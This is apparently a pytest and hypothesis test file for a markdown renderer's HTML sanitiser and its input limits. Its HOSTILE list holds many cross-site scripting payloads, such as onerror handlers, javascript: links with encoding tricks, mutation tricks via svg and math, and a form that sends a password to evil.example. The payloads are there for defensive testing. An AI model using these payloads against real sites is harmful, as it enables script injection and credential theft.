"""Whatever an author types, readers get only what is allowed, soon, and nothing is lost in silence."""

from __future__ import annotations

import itertools
import re
import time

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb import markdown
from kb.markdown import render, to_inline
from kb.markdown_limits import MAX_LENGTH, effort

TAGS = set(
    [
        "a",
        "abbr",
        "b",
        "blockquote",
        "br",
        "code",
        "dd",
        "del",
        "details",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "s",
        "samp",
        "span",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "ul",
        "var",
    ]
)
ATTRIBUTES = {
    "a": {"href", "title", "rel", "class", "aria-label"},
    "abbr": {"title"},
    "code": {"class"},
    "details": {"open"},
    "div": {"class", "role", "tabindex", "aria-label", "data-copy"},
    "img": {"src", "alt", "title", "width", "height", "loading"},
    "li": {"id", "class"},
    "ol": {"start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "span": {"class", "role", "aria-label"},
    "sup": {"id"},
    "td": {"class", "colspan", "rowspan"},
    "th": {"class", "colspan", "rowspan", "scope"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
}
CLASSES = re.compile(
    r"anchor|footnotes|footnote-(ref|backref)|alert-title|table-scroll|code-block|task|task-box|alert alert-[a-z]+|"
    r"align-(left|center|right)|language-[a-z0-9]+"
)
ADDRESS = re.compile(r"(https?:|mailto:|tel:|/(?!/)|#)")


def html_of(text: str) -> str:
    return render(text, address=lambda kind, slug: f"/{kind}s/{slug}/" if kind in ("article", "guide") else None).html


def assert_safe(html: str) -> None:
    """Reads the HTML as a browser does and looks at every element and attribute."""
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        assert element.tag in TAGS, element.tag
        assert set(element.attrib) <= ATTRIBUTES.get(element.tag, set()), element.attrib
        assert CLASSES.fullmatch(element.get("class", "task"))
        assert re.fullmatch(r"s-[\w-]+", element.get("id", "s-x"))
        assert ADDRESS.match(element.get("href", "/"))
        assert element.get("src", "/images/x").startswith("/images/")
        if element.get("href", "").startswith("http"):
            assert element.get("rel") == "nofollow noopener noreferrer"


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="/images/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png" onerror="alert(1)" style="position:fixed" id="config" class="evil">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style><a title='</style><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='position:fixed;inset:0' class='modal' id='login'>x</div>",
    "<p id=config>x</p><a id=forms name=body>x</a><img name=cookie src=/images/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png alt=x>",
    "<div class='alert alert-note' role=alert aria-live=assertive onclick=x tabindex=5 data-copy=evil>x</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JAVASCRIPT:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' &#x6A;avascript&colon;alert(1)'>x</a>",
    "<a data-href='javascript:alert(1)' href='/x'>x</a>",
    "<a title='>' href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href=https://evil.example target=_blank rel=opener>x</a>",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](&#106;avascript:alert(1))",
    "[x](JavaScript&colon;alert(1))",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/images/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.png)',
    '[x](/a "b\\" onmouseover=alert(1) \\"")',
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "## &lt;img src=x onerror=alert(1)&gt;",
    "## <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| &lt;script&gt; |",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: <script>alert(1)</script>",
    '[^" onclick="alert(1)]\n\n[^" onclick="alert(1)]: x',
    "> [!NOTE] <script>alert(1)</script>\n> x",
    '> [!NOTE" onclick="alert(1)]\n> x',
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary>y</details>",
    "<details markdown=1><script>alert(1)</script></details>",
    "<div markdown=1>\n[x](javascript:alert(1))\n</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<table><td><script>alert(1)</script><tr><td background=javascript:alert(1) style=x colspan=99999999>x",
    "<b><table></b><a href=javascript:alert(1)><td>x</a></table>",
    "<p><a><table><a href='x:y'></table></p>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02L1\x03 \x02lt\x03script>alert(1)\x02lt\x03/script>",
    "<a\x00 href='javascript:alert(1)'>x</a>",
    "<im\x00g src=x onerror=alert(1)>",
    "<\ud800script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]
FRAMES = [
    "{}",
    "- {}",
    "> {}",
    "a *{}* b",
    "| a |\n|---|\n| {} |",
    "<div>{}</div>",
    "<details>\n\n{}\n\n</details>",
    "term\n: {}",
]


@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("typed", HOSTILE)
def test_hostile_text_is_harmless(typed: str, frame: str) -> None:
    assert_safe(html_of(frame.format(typed)))


@pytest.mark.parametrize("typed", HOSTILE)
def test_hostile_text_is_harmless_on_one_line(typed: str) -> None:
    html = to_inline(typed)

    assert_safe(html)
    assert {element.tag for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter()}.isdisjoint(
        {"p", "div", "table", "img", "h2", "pre"}
    )


@pytest.mark.parametrize("typed", HOSTILE)
def test_html_that_was_cleaned_is_the_same_when_cleaned_again(typed: str) -> None:
    html = html_of(typed)

    assert markdown._last_cleaner.clean(html) == html


def test_cleaning_is_the_last_step(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "_last_cleaner", type("Marked", (), {"clean": staticmethod(lambda html: "cleaned")}))

    assert html_of("## x\n\n[a](article:b)") == "cleaned"
    assert html_of("x" * (MAX_LENGTH + 1)) == "cleaned"


@settings(max_examples=150)
@given(
    st.lists(
        st.one_of(
            st.sampled_from([*HOSTILE, "\n", "\n\n", "- ", "> ", "    ", "`", "](", "[", "|", "\n|-|-|\n", "</div>"]),
            st.text(max_size=8),
        ),
        max_size=8,
    )
)
def test_any_mixture_is_harmless(pieces: list[str]) -> None:
    assert_safe(html_of("".join(pieces)))


@given(st.text())
def test_any_text_is_rendered(text: str) -> None:
    assert_safe(html_of(text))


def test_all_pairs_of_nested_tags_give_html_that_reads_the_same_twice() -> None:
    names = ["svg", "math", "style", "title", "noscript", "template", "table", "p", "a", "details", "div", "ul"]
    for outer, inner in itertools.product(names, names):
        html = html_of(f"<{outer}><{inner}></{outer}><img src=x onerror=alert(1)></{inner}>")
        assert_safe(html)
        assert markdown._last_cleaner.clean(html) == html


# Bounds


def problems_of(text: str) -> list[str]:
    return [problem.code for problem in render(text, address=lambda kind, slug: None).problems]


@pytest.mark.parametrize(
    "text",
    [
        "> " * 150 + "a",
        "- " * 150 + "a",
        "\n".join("  " * depth + "- a" for depth in range(150)),
        "<div>" * 150,
        "<div></b>" * 150,
        "<div><table></div></table>" * 150,
        "<b>" * 150,
        "<div>\n\n" * 150,
    ],
)
def test_what_is_nested_too_deeply_is_shown_as_it_was_typed(text: str) -> None:
    found = render(text, address=lambda kind, slug: None)

    assert [problem.code for problem in found.problems] == ["too-deep"]
    assert found.html.startswith("<pre>")
    assert found.text == text


def test_ninety_quotations_in_one_another_are_still_rendered() -> None:
    assert problems_of("> " * 90 + "a") == []


def test_a_text_that_is_too_long_is_shown_as_it_was_typed() -> None:
    found = render("a **b** <i>c</i>\n" * (MAX_LENGTH // 16), address=lambda kind, slug: None)

    assert [problem.code for problem in found.problems] == ["too-long"]
    assert "a **b** &lt;i&gt;c&lt;/i&gt;" in found.html


@pytest.mark.parametrize("typed", ["\x00", "\ud800", "\x1b", "\x7f", "\x02"])
def test_a_character_that_cannot_be_shown_is_reported_with_its_line(typed: str) -> None:
    found = render(f"a\n\nb {typed} c", address=lambda kind, slug: None, first_line=10)

    assert [(problem.line, problem.code) for problem in found.problems] == [(12, "unseen-character")]
    assert found.text == "a\nb \N{REPLACEMENT CHARACTER} c"


def test_a_paragraph_that_is_too_long_is_not_formatted_but_the_next_one_is() -> None:
    found = render("*a* " * 2_000 + "\n\n*b*", address=lambda kind, slug: None)

    assert [problem.code for problem in found.problems] == ["not-formatted"]
    assert found.html.count("<em>") == 1


def test_effort_grows_with_brackets_that_nothing_closes() -> None:
    assert effort("[a](b) " * 100) < 1_000
    assert effort("[" * 1_000) > 400_000
    assert effort("[a](" * 1_000) > 400_000


def test_a_page_of_links_is_formatted() -> None:
    found = render("- [a link](https://example.org/a)\n" * 2_000, address=lambda kind, slug: None)

    assert found.html.count("<a href") == 2_000
    assert found.problems == ()


FAMILIES = [
    "[", "![", "[[", "[a](", "[a]: ", "[^a]", "*", "*a", "*a*", "**a **b ", "_a_ ", "***a** b* ", "`", "``a`", "~", ">", "> ",
    "> [!NOTE]\n", "<", "<b ", "<a href=", '<a href="', "<b>", "</b>", "<div>", "<div></b>", "<!--", "<!-- -->", "<![CDATA[",
    "<server>", "<script>", "<details>\n", "<table><td>", "&", "&amp;", "\\", "(", ")", "# a\n", "## a\n\n", "a\n=\n", "---\n",
    "a\n: b\n", "- a\n", "- a\n  - b\n", "1. a\n", "- [ ] a\n", "```\n", "```\na\n", "|a", "|a|b\n", "a|b\n-|-\n",
    "| a | b |\n|---|---|\n", "[^1]: x\n\n[^1]\n\n", "[a](#b)\n\n", "![a](x)", "\n", " ", "a  \n", "    a\n", "\u0301", "\x00",
]  # fmt: skip


@pytest.mark.parametrize("family", FAMILIES)
def test_texts_that_slow_other_programs_down_are_rendered_soon(family: str) -> None:
    """20,000 characters in about a second at most: the time of all of them is close to a straight line."""
    times = []
    for size in (5_000, 20_000):
        began = time.process_time()
        assert isinstance(html_of(family * (size // len(family))), str)
        times.append(time.process_time() - began)

    assert times[1] < max(3, times[0] * 10)
    assert times[1] < 10


def test_tables_of_more_cells_than_anybody_reads_stay_as_they_were_typed() -> None:
    head = "|".join("a" * 300)
    table = f"{head}\n{'|'.join(['-'] * 300)}\n" + "b|c\n" * 100  # every short row is filled up to 300 cells
    found = render(f"{table}\n*d*", address=lambda kind, slug: None)

    assert [problem.code for problem in found.problems] == ["not-formatted"]
    assert "<table" not in found.html and "<em>d</em>" in found.html
    assert len(found.html) < 2 * len(table)


def test_more_footnotes_than_anybody_reads_stay_as_they_were_typed() -> None:
    notes = "".join(f"a[^{number}]\n\n[^{number}]: b\n\n" for number in range(301))
    found = render(f"{notes}*d*", address=lambda kind, slug: None)

    assert "not-formatted" in [problem.code for problem in found.problems]
    assert "footnote" not in found.html and "<em>d</em>" in found.html


def test_a_long_table_that_somebody_may_read_is_a_table() -> None:
    found = render("a|b\n-|-\n" + "c|d\n" * 3_000, address=lambda kind, slug: None)

    assert not found.problems
    assert found.html.count("<td>c") == 3_000
